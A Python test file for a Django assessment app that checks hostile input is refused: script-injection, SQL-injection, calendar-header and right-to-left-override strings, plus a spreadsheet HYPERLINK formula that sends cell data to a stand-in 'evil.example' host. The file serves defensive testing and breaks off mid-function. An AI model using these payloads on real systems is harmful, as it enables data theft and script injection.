"""Hostile and broken input to the answering service and pages.

Every bad input is refused with a message that says what is wrong and where (or
a 400/403/404), and nothing is changed; none of it is a 500. The small test
questionnaire has: area "data" with "streaming-data" (levels 1-5, Not applicable
offered) and "data-discovery" (levels 1, 3, 5 only, no Not applicable); area
"models" with "model-versions"; area "operations".
"""

import string

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assessment import models
from assessment.services.assessments import (
    AnswerInput,
    AnswerInvalid,
    AssessmentLocked,
    answers_save,
    assessment_submit,
)
from tests.urlwalk import db_snapshot

ERROR_SUMMARY = 'id="error-summary"'


def question(version, key) -> models.Question:
    return models.Question.objects.get(area__questionnaire=version, key=key)


@pytest.fixture
def streaming(questionnaire_version):
    return question(questionnaire_version, "streaming-data")


@pytest.fixture
def discovery(questionnaire_version):
    return question(questionnaire_version, "data-discovery")


@pytest.fixture
def with_one_answer(assessment, member, streaming, discovery):
    """A draft with one answer on the data page, so "nothing changed" has something to lose."""
    answers_save(
        assessment=assessment,
        user=member,
        answers=[AnswerInput(streaming.key, models.Answer.CHOICE, level=2, note="Kept note")],
    )
    return assessment


# --- The service --------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "reason, detail, expected",
    [
        ("lazy", "", 'Unknown reason "lazy"'),
        ("DOES_NOT_APPLY", "", 'Unknown reason "DOES_NOT_APPLY"'),
        ("other", "", "say what the other reason"),
        ("other", " \x00\x1b \n", "say what the other reason"),
        ("other", "x" * 201, "201 characters long; the limit is 200"),
    ],
)
def test_it_refuses_a_bad_reason_for_not_applicable(with_one_answer, member, streaming, reason, detail, expected):
    message = refused(
        with_one_answer,
        member,
        [
            AnswerInput(streaming.key, models.Answer.NOT_APPLICABLE, na_reason=reason, na_reason_detail=detail),
        ],
    )
    assert expected in message and "streaming-data" in message


@pytest.mark.django_db
def test_it_keeps_a_reason_only_on_a_not_applicable_answer(with_one_answer, member, streaming):
    answers_save(
        assessment=with_one_answer,
        user=member,
        answers=[
            AnswerInput(
                streaming.key,
                models.Answer.NOT_APPLICABLE,
                na_reason="other",
                na_reason_detail=" Run\x07 by\n the state ",
            ),
        ],
    )
    saved = with_one_answer.answers.get(question=streaming)
    assert (saved.na_reason, saved.na_reason_detail) == ("other", "Run by the state")
    answers_save(
        assessment=with_one_answer,
        user=member,
        answers=[
            AnswerInput(streaming.key, models.Answer.NOT_SURE, na_reason="shared_service", na_reason_detail="stale"),
        ],
    )
    saved.refresh_from_db()
    assert (saved.kind, saved.na_reason, saved.na_reason_detail) == ("not_sure", "", "")


def refused(assessment, member, answers) -> str:
    before = db_snapshot()
    with pytest.raises(AnswerInvalid) as error:
        answers_save(assessment=assessment, user=member, answers=answers)
    assert db_snapshot() == before, "a refused save changed data"
    return str(error.value)


@pytest.mark.django_db
def test_it_refuses_a_level_that_is_not_a_choice_of_the_question(with_one_answer, member, discovery):
    # Level 2 exists on the scale and on other questions, but not on this one.
    message = refused(with_one_answer, member, [AnswerInput(discovery.key, models.Answer.CHOICE, level=2)])
    assert "level 2 is not a choice" in message and "data-discovery" in message


@pytest.mark.django_db
def test_it_refuses_an_unknown_level(with_one_answer, member, streaming):
    message = refused(with_one_answer, member, [AnswerInput(streaming.key, models.Answer.CHOICE, level=9)])
    assert "level 9 is not a choice" in message and "streaming-data" in message


@pytest.mark.django_db
def test_it_refuses_a_choice_without_a_level(with_one_answer, member, streaming):
    message = refused(with_one_answer, member, [AnswerInput(streaming.key, models.Answer.CHOICE, level=None)])
    assert "streaming-data" in message


@pytest.mark.django_db
def test_it_refuses_an_unknown_question_key(with_one_answer, member):
    message = refused(with_one_answer, member, [AnswerInput("no-such-question", models.Answer.NOT_SURE)])
    assert '"no-such-question"' in message and "not part of this assessment" in message


@pytest.mark.django_db
def test_it_refuses_a_question_only_another_questionnaire_has(with_one_answer, member, full_questionnaire_version):
    own = set(
        models.Question.objects.filter(area__questionnaire=with_one_answer.questionnaire).values_list("key", flat=True)
    )
    foreign = (
        models.Question.objects.filter(area__questionnaire=full_questionnaire_version).exclude(key__in=own).first()
    )
    message = refused(with_one_answer, member, [AnswerInput(foreign.key, models.Answer.NOT_SURE)])
    assert f'"{foreign.key}"' in message and "not part of this assessment" in message


@pytest.fixture
def other_version(questionnaire_version):
    """Another version of the same questionnaire: the same question keys, other rows."""
    from assessment.domain.schema import parse_questionnaire
    from assessment.services.questionnaires import questionnaire_load
    from tests.helpers import DATA

    text = (
        (DATA / "good_questionnaire.yaml").read_text(encoding="utf-8").replace('version: "2026.1"', 'version: "other"')
    )
    return questionnaire_load(parse_questionnaire(text, "other.yaml"), loaded_from="other.yaml").version


@pytest.mark.django_db
def test_a_key_shared_with_another_version_answers_this_versions_question(
    with_one_answer, member, discovery, other_version
):
    assert models.Question.objects.filter(area__questionnaire=other_version, key=discovery.key).exists()
    answers_save(assessment=with_one_answer, user=member, answers=[AnswerInput(discovery.key, models.Answer.NOT_SURE)])
    saved = with_one_answer.answers.get(question__key=discovery.key)
    assert saved.question_id == discovery.pk and discovery.area.questionnaire_id != other_version.pk


@pytest.mark.django_db
def test_it_refuses_not_applicable_where_it_is_not_offered(with_one_answer, member, discovery):
    message = refused(with_one_answer, member, [AnswerInput(discovery.key, models.Answer.NOT_APPLICABLE)])
    assert "Not applicable" in message and "data-discovery" in message


@pytest.mark.django_db
def test_it_refuses_an_unknown_kind_of_answer(with_one_answer, member, discovery):
    message = refused(with_one_answer, member, [AnswerInput(discovery.key, "maybe")])
    assert "answer 'maybe' is not one of" in message and "data-discovery" in message


@pytest.mark.django_db
def test_it_refuses_an_oversize_note_and_accepts_the_limit(with_one_answer, member, discovery):
    message = refused(with_one_answer, member, [AnswerInput(discovery.key, models.Answer.NOT_SURE, note="x" * 2001)])
    assert "2001" in message and "2000" in message
    answers_save(
        assessment=with_one_answer,
        user=member,
        answers=[AnswerInput(discovery.key, models.Answer.NOT_SURE, note="x" * 2000)],
    )
    assert len(with_one_answer.answers.get(question=discovery).note) == 2000


@pytest.mark.django_db
def test_it_saves_nothing_of_a_batch_with_one_bad_answer(with_one_answer, member, streaming, discovery):
    refused(
        with_one_answer,
        member,
        [
            AnswerInput(streaming.key, models.Answer.CHOICE, level=5, note="Would be lost"),
            AnswerInput(discovery.key, models.Answer.CHOICE, level=4),
        ],
    )
    kept = with_one_answer.answers.get(question=streaming)
    assert (kept.choice.level, kept.note) == (2, "Kept note")


@pytest.mark.django_db
def test_it_strips_control_characters_from_notes_but_keeps_lines(with_one_answer, member, discovery):
    answers_save(
        assessment=with_one_answer,
        user=member,
        answers=[
            AnswerInput(discovery.key, models.Answer.NOT_SURE, note="Ask\x00 the\x1b[31m owner\x7f\nthen\tcheck\x08")
        ],
    )
    note = with_one_answer.answers.get(question=discovery).note
    assert note == "Ask the[31m owner\nthen\tcheck"
    assert not any(ch in note for ch in "\x00\x1b\x7f\x08")


@pytest.mark.django_db
def test_it_refuses_every_write_to_a_submitted_assessment(with_one_answer, member, streaming, discovery):
    assessment_submit(assessment=with_one_answer, user=member)
    before = db_snapshot()
    for answers in (
        [AnswerInput(discovery.key, models.Answer.NOT_SURE)],
        [AnswerInput(streaming.key, "")],  # clearing is a change too
    ):
        with pytest.raises(AssessmentLocked, match="submitted"):
            answers_save(assessment=with_one_answer, user=member, answers=answers)
    with pytest.raises(AssessmentLocked):
        assessment_submit(assessment=with_one_answer, user=member)
    assert db_snapshot() == before


@pytest.mark.django_db
def test_it_refuses_a_stale_object_of_an_assessment_submitted_meanwhile(with_one_answer, member, discovery):
    """A page loaded the draft; someone submitted it; the stale object must not write."""
    stale = models.Assessment.objects.get(pk=with_one_answer.pk)
    assessment_submit(assessment=with_one_answer, user=member)
    with pytest.raises(AssessmentLocked):
        answers_save(assessment=stale, user=member, answers=[AnswerInput(discovery.key, models.Answer.NOT_SURE)])


# --- The answering page -------------------------------------------------------------------------


def area_url(assessment, area_key="data"):
    return reverse("assessment-area", kwargs={"assessment_id": assessment.pk, "area_key": area_key})


def page_post(streaming_value="level-2", discovery_value="", streaming_note="Kept note", discovery_note="", **extra):
    data = {
        "answer_streaming-data": streaming_value,
        "note_streaming-data": streaming_note,
        "answer_data-discovery": discovery_value,
        "note_data-discovery": discovery_note,
        "action": "continue",
    }
    data.update(extra)
    return data


@pytest.fixture
def member_client(member):
    client = Client(raise_request_exception=False)
    client.force_login(member)
    return client


def post_refused(client, url, data, *expected_in_page) -> str:
    """Post, and check the page comes back with the error summary, the messages, and no change."""
    before = db_snapshot()
    response = client.post(url, data)
    assert response.status_code == 400, f"expected the form back with errors (400), got {response.status_code}"
    page = response.content.decode()
    assert ERROR_SUMMARY in page and "There is a problem" in page
    for text in expected_in_page:
        assert text in page, f"{text!r} not in the error page"
    assert db_snapshot() == before, "a refused post changed data"
    return page


@pytest.mark.django_db
def test_it_saves_a_valid_page(with_one_answer, member_client, discovery):
    """The control for the refusals below: the same post with valid values is saved."""
    response = member_client.post(
        area_url(with_one_answer), page_post(discovery_value="level-3", discovery_note="Fine")
    )
    assert response.status_code == 302
    saved = with_one_answer.answers.get(question=discovery)
    assert (saved.choice.level, saved.note) == (3, "Fine")


@pytest.mark.django_db
def test_it_refuses_a_choice_that_belongs_to_another_question(with_one_answer, member_client):
    # level-2 is a choice of streaming-data, not of data-discovery.
    page = post_refused(
        member_client,
        area_url(with_one_answer),
        page_post(discovery_value="level-2"),
        "How do teams find the data they need?",
    )
    assert "not offered for this question" in page


@pytest.mark.django_db
@pytest.mark.parametrize(
    "value", ["level-9", "level-0", "level--1", "level-abc", "choice", "3", "NOT_SURE", "level-3 "]
)
def test_it_refuses_unknown_answer_values(with_one_answer, member_client, value):
    post_refused(
        member_client, area_url(with_one_answer), page_post(discovery_value=value), "not offered for this question"
    )


@pytest.mark.django_db
def test_it_refuses_not_applicable_where_the_page_does_not_offer_it(with_one_answer, member_client):
    post_refused(
        member_client,
        area_url(with_one_answer),
        page_post(discovery_value="not_applicable"),
        "not offered for this question",
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    "field", ["answer_no-such-question", "note_no-such-question", "answer_model-versions", "answer_", "answer_12"]
)
def test_it_refuses_answers_to_questions_not_on_the_page(with_one_answer, member_client, field):
    page = post_refused(member_client, area_url(with_one_answer), page_post(**{field: "not_sure"}), "not on this page")
    assert "Nothing was saved" in page


@pytest.mark.django_db
def test_it_refuses_an_oversize_note_and_keeps_what_was_typed(with_one_answer, member_client):
    long_note = "Evidence: " + "e" * 2100
    page = post_refused(
        member_client,
        area_url(with_one_answer),
        page_post(discovery_value="level-3", discovery_note=long_note, streaming_note="Typed but not yet saved"),
        "2110 characters",
        "2000",
    )
    # Nothing typed is lost: the page comes back with both notes as they were posted.
    assert long_note in page and "Typed but not yet saved" in page


@pytest.mark.django_db
def test_it_refuses_a_note_with_a_null_character(with_one_answer, member_client):
    post_refused(
        member_client,
        area_url(with_one_answer),
        page_post(discovery_value="level-3", discovery_note="a\x00b"),
        "Null characters",
    )


@pytest.mark.django_db
def test_it_saves_a_note_with_other_control_characters_cleaned(with_one_answer, member_client, discovery):
    response = member_client.post(
        area_url(with_one_answer),
        page_post(discovery_value="not_sure", discovery_note="Call\x1b[0m Ana\x07\r\nTuesday"),
    )
    assert response.status_code == 302
    note = with_one_answer.answers.get(question=discovery).note
    assert note.startswith("Call[0m Ana") and "Tuesday" in note
    assert "\x1b" not in note and "\x07" not in note


@pytest.mark.django_db
def test_it_refuses_a_note_without_an_answer(with_one_answer, member_client):
    post_refused(
        member_client,
        area_url(with_one_answer),
        page_post(discovery_value="", discovery_note="Orphan"),
        "you wrote a note but chose no answer",
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    "extra, expected",
    [
        ({}, "Choose why from the list under the answers"),
        ({"na_reason_streaming-data": "lazy"}, "that reason is not in the list"),
        ({"na_reason_streaming-data": "<script>alert(1)</script>"}, "that reason is not in the list"),
        ({"na_reason_streaming-data": "other"}, "you chose “Other” as the reason; say what it is"),
        ({"na_reason_streaming-data": "other", "na_other_streaming-data": "   "}, "say what it is"),
        ({"na_reason_streaming-data": "other", "na_other_streaming-data": "x" * 201}, "201 characters long"),
        ({"na_reason_streaming-data": "other", "na_other_streaming-data": "a\x00b"}, "Null characters"),
    ],
)
def test_it_refuses_not_applicable_without_a_good_reason(with_one_answer, member_client, extra, expected):
    page = post_refused(
        member_client, area_url(with_one_answer), page_post(streaming_value="not_applicable", **extra), expected
    )
    # The error is located: the summary links to the field in error.
    assert '<a href="#id_na_' in page


@pytest.mark.django_db
@pytest.mark.parametrize(
    "field", ["na_reason_no-such-question", "na_other_model-versions", "na_reason_", "na_other_12"]
)
def test_it_refuses_reasons_for_questions_not_on_the_page(with_one_answer, member_client, field):
    post_refused(member_client, area_url(with_one_answer), page_post(**{field: "other"}), "not on this page")


@pytest.mark.django_db
def test_it_answers_404_for_unknown_ids(with_one_answer, member_client):
    before = db_snapshot()
    for url in (
        area_url(with_one_answer, "no-such-area"),
        area_url(with_one_answer, "models").replace(str(with_one_answer.pk), "987654"),
        reverse("assessment-submit", kwargs={"assessment_id": 987654}),
        reverse("assessment-new", kwargs={"team_id": 987654}),
    ):
        response = member_client.post(url, page_post())
        assert response.status_code == 404, url
        assert "This page does not exist, or you do not have access to it." in response.content.decode()
    assert db_snapshot() == before


@pytest.mark.django_db
def test_it_refuses_writes_to_a_submitted_assessment_with_the_reason(with_one_answer, member, member_client):
    assessment_submit(assessment=with_one_answer, user=member)
    before = db_snapshot()
    response = member_client.post(area_url(with_one_answer), page_post(discovery_value="level-5"))
    assert response.status_code == 403
    assert "has been submitted and can no longer be changed" in response.content.decode()
    assert db_snapshot() == before


@pytest.mark.django_db
def test_it_refuses_posts_without_a_csrf_token(with_one_answer, member):
    client = Client(enforce_csrf_checks=True)
    client.force_login(member)
    before = db_snapshot()
    for url in (area_url(with_one_answer), reverse("assessment-submit", kwargs={"assessment_id": with_one_answer.pk})):
        response = client.post(url, page_post(discovery_value="level-5"))
        assert response.status_code == 403, url
        page = response.content.decode()
        assert "Your form could not be accepted" in page and "Nothing was saved" in page
    assert db_snapshot() == before
    with_one_answer.refresh_from_db()
    assert with_one_answer.status == models.Assessment.DRAFT


@pytest.mark.django_db
def test_it_accepts_the_post_with_the_csrf_token_of_the_page(with_one_answer, member, discovery):
    """The control for the CSRF test: the token from the form is enough."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(member)
    client.get(area_url(with_one_answer))
    token = client.cookies["csrftoken"].value
    response = client.post(area_url(with_one_answer), page_post(discovery_value="level-5", csrfmiddlewaretoken=token))
    assert response.status_code == 302
    assert with_one_answer.answers.get(question=discovery).choice.level == 5


@pytest.mark.django_db
def test_it_answers_400_to_an_oversize_request(with_one_answer, member_client):
    before = db_snapshot()
    response = member_client.post(area_url(with_one_answer), page_post(discovery_note="x" * 3_000_000))
    assert response.status_code == 400
    response = member_client.post(area_url(with_one_answer), {f"field{i}": "x" for i in range(1200)})
    assert response.status_code == 400
    assert db_snapshot() == before


@pytest.mark.django_db
def test_it_survives_a_body_that_is_not_utf8(with_one_answer, member_client):
    before = db_snapshot()
    response = member_client.generic(
        "POST",
        area_url(with_one_answer),
        b"answer_data-discovery=level-%FF%FE&note_data-discovery=%C3%28&action=continue",
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code in (200, 400)
    if response.status_code == 200:
        assert ERROR_SUMMARY in response.content.decode()
    assert db_snapshot() == before


@pytest.mark.django_db
def test_it_refuses_bad_input_when_starting_an_assessment(team, member, member_client, questionnaire_version):
    url = reverse("assessment-new", kwargs={"team_id": team.pk})
    # The error summary links to the field in error (where), and the message says what.
    cases = [
        ({"title": ""}, 'href="#id_title"'),
        ({"title": "   "}, 'href="#id_title"'),
        ({"title": "t" * 201}, "200 characters"),
        ({"title": "Fine", "target_data": "9"}, 'href="#id_target_data"'),
        ({"title": "Fine", "target_data": "abc"}, 'href="#id_target_data"'),
    ]
    before = db_snapshot()
    for data, message in cases:
        full = {f"target_{a.key}": "4" for a in models.Area.objects.filter(questionnaire=questionnaire_version)}
        full.update(data)
        response = member_client.post(url, full)
        assert response.status_code == 400, data  # refused: the form again, nothing created
        page = response.content.decode()
        assert ERROR_SUMMARY in page and message in page, data
    response = member_client.post(url, {"title": "Fine", "questionnaire": "987654"}, follow=True)
    assert "That questionnaire is not available" in response.content.decode()
    assert db_snapshot() == before


# --- Property test ------------------------------------------------------------------------------

FIELD_NAMES = [
    "answer_streaming-data",
    "note_streaming-data",
    "na_reason_streaming-data",
    "na_other_streaming-data",
    "na_reason_data-discovery",
    "answer_data-discovery",
    "note_data-discovery",
    "action",
    "csrfmiddlewaretoken",
]
VALID_VALUES = [
    "level-1",
    "level-2",
    "level-3",
    "level-4",
    "level-5",
    "not_sure",
    "not_applicable",
    "",
    "continue",
    "exit",
    "back",
    "does_not_apply",
    "business_priority",
    "shared_service",
    "other",
]
text_values = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=60)
hostile_values = st.one_of(
    st.sampled_from(VALID_VALUES),
    text_values,
    st.integers(min_value=-(10**20), max_value=10**20).map(str),
    st.sampled_from(
        [
            "x" * 2001,
            "\x00",
            "\x1b[2J",
            "<script>alert(1)</script>",
            "' OR 1=1 --",
            "level-" + "9" * 50,
            "é" * 1999 + "\u202e",
        ]
    ),
)
field_names = st.one_of(
    st.sampled_from(FIELD_NAMES),
    st.text(alphabet=string.ascii_letters + string.digits + "_-[]", min_size=1, max_size=30),
    st.sampled_from(["answer_model-versions", "answer_987654", "note_", "answer_"]),
)
post_bodies = st.dictionaries(
    field_names, st.one_of(hostile_values, st.lists(hostile_values, min_size=2, max_size=3)), max_size=8
)


@pytest.mark.slow
@pytest.mark.django_db
@settings(
    max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(data=post_bodies)
def test_it_never_fails_on_arbitrary_answer_posts(with_one_answer, member_client, data):
    before = db_snapshot()
    response = member_client.post(area_url(with_one_answer), data)
    assert response.status_code in (200, 302, 400, 403, 404), f"{response.status_code} for {data!r}"
    if response.status_code == 200:
        # The form came back: it says what is wrong, and nothing was saved.
        assert ERROR_SUMMARY in response.content.decode(), f"no error summary for {data!r}"
        assert db_snapshot() == before
    if response.status_code == 302:
        assert models.Assessment.objects.get(pk=with_one_answer.pk).status == models.Assessment.DRAFT


# --- Stored hostile text, shown back -----------------------------------------------------------

SCRIPT_TITLE = '<script>alert("title")</script>'
IMG_NOTE = "<img src=x onerror=alert(1)>"
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.django_db
def test_it_escapes_stored_markup_on_every_page_and_defuses_formulas_in_csv(
    assessment, member, streaming, discovery, questionnaire_version
):
    from tests.urlwalk import STAFF, all_routes, body_text

    models.Assessment.objects.filter(pk=assessment.pk).update(title=SCRIPT_TITLE)
    answers_save(
        assessment=assessment,
        user=member,
        answers=[
            AnswerInput(streaming.key, models.Answer.CHOICE, level=2, note=IMG_NOTE),
            AnswerInput(discovery.key, models.Answer.NOT_SURE, note=FORMULA_NOTE),
        ],
    )
    # An action of the plan with the same hostile texts: the plan page and its CSV and calendar files too.
    from django.utils import timezone

    models.Action.objects.create(
        team=assessment.team,
        questionnaire_slug=questionnaire_version.slug,
        question_key=streaming.key,
        target_level=3,
        owner_name=IMG_NOTE[:200],
        note=FORMULA_NOTE,
        created_at=timezone.now(),
    )
    values = {
        "assessment_id": assessment.pk,
        "team_id": assessment.team_id,
        "version_id": questionnaire_version.pk,
        "area_key": "data",
        "practice_key": "data-catalog",
    }
    client = Client(raise_request_exception=False)
    client.force_login(member)
    html_pages = 0
    for route in all_routes():
        if route.kind == STAFF or route.name in ("logout", "login") or set(route.params) - set(values):
            continue
        response = client.get(route.url(values))
        assert response.status_code < 500, route.name
        content_type = response.get("Content-Type", "")
        if response.status_code == 200 and content_type.startswith("text/html"):
            html_pages += 1
            page = body_text(response)
            assert SCRIPT_TITLE not in page and IMG_NOTE not in page, f"{route.name} shows stored markup unescaped"
        if response.status_code == 200 and "csv" in content_type:
            import csv
            import io

            cells = [cell for row in csv.reader(io.StringIO(body_text(response))) for cell in row]
            # The frameworks CSVs hold no notes: items, statuses and levels (still checked for formulas).
            if route.name not in ("assessment-frameworks-csv", "portfolio-frameworks-csv"):
                assert any("HYPERLINK" in cell for cell in cells), f"the note is missing from {route.name}"
            assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "a CSV cell would run as a formula"
    assert html_pages >= 3


new_assessment_bodies = st.dictionaries(
    st.one_of(
        st.sampled_from(["title", "start_from", "target_data", "target_models", "target_operations", "questionnaire"]),
        st.text(alphabet=string.ascii_letters + "_", min_size=1, max_size=20),
    ),
    hostile_values,
    max_size=7,
)


@pytest.mark.django_db
@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(data=new_assessment_bodies)
def test_it_never_fails_on_arbitrary_new_assessment_posts(team, member_client, questionnaire_version, data):
    before = models.Assessment.objects.count()
    response = member_client.post(reverse("assessment-new", kwargs={"team_id": team.pk}), data)
    assert response.status_code in (200, 302, 400, 403, 404), f"{response.status_code} for {data!r}"
    if response.status_code == 200:
        assert ERROR_SUMMARY in response.content.decode(), f"no error summary for {data!r}"
        assert models.Assessment.objects.count() == before


# --- The action plan's forms ---------------------------------------------------------------------


@pytest.fixture
def planned_action(with_one_answer, member):
    """A submitted assessment with one action in the team's plan."""
    from assessment.selectors.results import assessment_results
    from assessment.services.plan import actions_add_from_roadmap, item_key

    submitted = assessment_submit(assessment=with_one_answer, user=member)
    item = next(iter(assessment_results(submitted).roadmap))
    [action] = actions_add_from_roadmap(
        assessment=submitted, user=member, item_keys=[item_key(item.question_key, item.to_level)]
    )
    return action


ACTION_FORM = {
    "owner": "",
    "owner_name": "",
    "due_date": "2027-01-31",
    "status": "planned",
    "wont_do_reason": "",
    "link": "",
    "note": "",
}


@pytest.mark.django_db
@pytest.mark.parametrize(
    "field, value, expected",
    [
        ("due_date", "10000-01-01", "Enter a real date, between"),
        ("due_date", "2027-02-30", "Enter a real date, between"),
        ("due_date", "1066-10-14", "between the years 2000 and 2100"),
        ("link", "javascript:alert(document.cookie)", "starting with http:// or https://"),
        ("link", "JavaScript://%0aalert(1)", "starting with http:// or https://"),
        ("link", "data:text/html,<script>alert(1)</script>", "starting with http:// or https://"),
        ("note", "x" * 1_000_000, "Shorten the note to 5000 characters"),
        ("owner_name", "y" * 201, "Shorten the name to 200 characters"),
        ("owner", "999999", "Select a valid choice"),
        ("status", "deleted", "Select a valid choice"),
        ("wont_do_reason", "z" * 1001, "Shorten the reason to 1000 characters"),
        # urlsplit drops CR, LF and tab before it looks: the link passed, and broke the calendar file.
        ("link", "https://ics.example/a\r\nBEGIN:VEVENT", "Remove a line break (carriage return) at character 22"),
        ("link", "https://ics.example/a\tb", "Remove a tab at character 22"),
        ("link", "https://ics.example/\x00", "Remove a null character at character 21"),
        ("owner_name", "Ana\nBEGIN:VEVENT", "Remove a line break at character 4"),
        ("owner_name", "Ana\x1b[2J", "Remove an escape character at character 4"),
        # A right-to-left override makes "Ana<RLO>fdp.exe" read as "Anaexe.pdf" ("Trojan Source").
        ("owner_name", "Ana\u202efdp.exe", "Remove the text-direction control U+202E at character 4"),
        ("link", "https://ics.example/\u2066a", "Remove the text-direction control U+2066 at character 21"),
    ],
)
def test_it_refuses_hostile_action_input_with_a_located_error(planned_action, member, field, value, expected):
    client = Client()
    client.force_login(member)
    url = reverse("team-plan-action", args=[planned_action.team_id, planned_action.pk])
    before = db_snapshot()
    response = client.post(url, dict(ACTION_FORM, **{field: value}))
    assert response.status_code == 400
    html = response.content.decode()
    assert ERROR_SUMMARY in html and f'href="#id_{field}' in html, f"no located error for {field}"
    assert expected in html
    assert db_snapshot() == before, f"a refused {field} changed data"


@pytest.mark.django_db
def test_it_refuses_an_owner_who_is_a_member_of_another_team(planned_action, member, outsider):
    client = Client()
    client.force_login(member)
    url = reverse("team-plan-action", args=[planned_action.team_id, planned_action.pk])
    before = db_snapshot()
    response = client.post(url, dict(ACTION_FORM, owner=str(outsider.pk)))
    assert response.status_code == 400 and 'href="#id_owner' in response.content.decode()
    assert db_snapshot() == before


# --- Several respondents: the respondents form, a respondent's page, the reconciliation page --------


@pytest.fixture
def respondent_draft(with_one_answer, member):
    """The draft opened to its member, who is lead and sole respondent and has answered the data page."""
    from assessment.services.respondents import panel_open, respondent_answers_save

    panel_open(assessment=with_one_answer, lead=member, users=[member])
    streaming = question(with_one_answer.questionnaire, "streaming-data")
    respondent_answers_save(
        respondent=with_one_answer.respondents.get(),
        user=member,
        answers=[AnswerInput(streaming.key, models.Answer.CHOICE, level=4, note="Mine")],
    )
    return with_one_answer


def respondent_url(assessment, name="respondent-area", area_key="data"):
    kwargs = {"assessment_id": assessment.pk}
    if name in ("respondent-area", "assessment-reconcile"):
        kwargs["area_key"] = area_key
    return reverse(name, kwargs=kwargs)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["respondent-area", "assessment-reconcile"])
@pytest.mark.parametrize(
    "data, expected",
    [
        (page_post(discovery_value="level-2"), "not offered for this question"),
        (page_post(streaming_value="level-99"), "not offered for this question"),
        (page_post(streaming_value="'; DROP TABLE"), "not offered for this question"),
        (page_post(discovery_value="not_applicable"), "not offered for this question"),
        (page_post(**{"answer_no-such-question": "level-1"}), "not on this page"),
        (page_post(discovery_note="x" * 2001, discovery_value="level-3"), "shorten it to 2000"),
        (page_post(discovery_value="", discovery_note="orphan note"), "you wrote a note but chose no answer"),
        (
            page_post(streaming_value="not_applicable", **{"na_reason_streaming-data": "lazy"}),
            "that reason is not in the list",
        ),
    ],
)
def test_it_refuses_bad_answers_on_the_respondent_and_reconcile_pages(
    respondent_draft, member, member_client, name, data, expected
):
    if name == "assessment-reconcile":
        from assessment.services.respondents import respondent_submit

        respondent_submit(respondent=respondent_draft.respondents.get(), user=member)
    post_refused(member_client, respondent_url(respondent_draft, name), data, expected)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "value, expected",
    [
        ("abc", "not a member of this team"),
        ("987654", "not a member of this team"),
        ("", "not a member of this team"),
        ("-1", "not a member of this team"),
        ("9" * 30, "not a member of this team"),  # found by tests/test_hostile_walk.py: an OverflowError on SQLite
    ],
)
def test_it_refuses_bad_respondents(with_one_answer, member_client, value, expected):
    url = reverse("assessment-respondents", kwargs={"assessment_id": with_one_answer.pk})
    post_refused(member_client, url, {"respondents": [value]}, expected, 'href="#id_respondents"')


@pytest.mark.django_db
def test_it_refuses_no_respondent_at_all(with_one_answer, member_client):
    url = reverse("assessment-respondents", kwargs={"assessment_id": with_one_answer.pk})
    post_refused(member_client, url, {"share_individual_answers": "on"}, "Choose at least one respondent")


@pytest.mark.django_db
def test_it_refuses_a_member_of_another_team_as_respondent(with_one_answer, member_client, outsider):
    membership = models.Membership.objects.get(user=outsider)
    url = reverse("assessment-respondents", kwargs={"assessment_id": with_one_answer.pk})
    post_refused(member_client, url, {"respondents": [membership.pk]}, "not a member of this team")


@pytest.mark.django_db
def test_it_answers_404_for_unknown_respondent_pages(respondent_draft, member_client):
    before = db_snapshot()
    for url in (
        respondent_url(respondent_draft, "respondent-area", "no-such-area"),
        respondent_url(respondent_draft, "respondent-area").replace(str(respondent_draft.pk), "987654"),
        respondent_url(respondent_draft, "respondent-submit").replace(str(respondent_draft.pk), "987654"),
        respondent_url(respondent_draft, "assessment-respondents").replace(str(respondent_draft.pk), "987654"),
    ):
        assert member_client.post(url, page_post()).status_code == 404, url
    assert db_snapshot() == before


@pytest.mark.django_db
def test_it_refuses_a_made_up_roadmap_item_and_writes_nothing(planned_action, member):
    client = Client()
    client.force_login(member)
    before = db_snapshot()
    assessment = models.Assessment.objects.get(team=planned_action.team)
    for items in (["streaming-data:99"], ["x" * 100_000], ["no-such-question:3"]):
        response = client.post(reverse("assessment-plan-add", args=[assessment.pk]), {"items": items}, follow=True)
        assert response.status_code == 200 and "is not an item of this roadmap" in response.content.decode()
    assert db_snapshot() == before


@pytest.mark.django_db
def test_it_refuses_respondent_posts_without_a_csrf_token(respondent_draft, member):
    client = Client(enforce_csrf_checks=True)
    client.force_login(member)
    before = db_snapshot()
    for name in ("respondent-area", "respondent-submit", "assessment-respondents"):
        assert client.post(respondent_url(respondent_draft, name), page_post()).status_code == 403, name
    assert db_snapshot() == before


# --- Control characters in names and links, and downloads of what is stored already ------------


@pytest.mark.django_db
@pytest.mark.parametrize("model", ["team", "division", "agency"])
def test_it_refuses_a_name_with_a_line_break_in_the_admin(team, team_manager, model):
    from tests.admin_forms import form_data

    team.division = models.Division.objects.create(agency=team.agency, name="Analytics")
    team.save()
    obj = {"team": team, "division": team.division, "agency": team.agency}[model]
    client = Client(raise_request_exception=False)
    client.force_login(team_manager)
    url = reverse(f"admin:assessment_{model}_change", args=[obj.pk])
    data = form_data(client.get(url))
    data["name"] = "Data\r\nBEGIN:VEVENT"
    before = db_snapshot()
    response = client.post(url, data)
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert "Remove a line break (carriage return) at character 5" in " ".join(errors.get("name", []))
    assert db_snapshot() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url_name, data, field",
    [
        ("admin:assessment_executive_add", {"user": "", "divisions": "9" * 30}, "divisions"),
        ("admin:assessment_agency_add", {"name": "New agency", "managers": "9" * 30}, "managers"),
    ],
)
def test_it_refuses_a_huge_id_in_an_admin_multiple_choice(agency, url_name, data, field):
    """An OverflowError on SQLite (Django looks the ids up with pk__in) answered 500."""
    from tests.helpers import make_user

    client = Client(raise_request_exception=False)
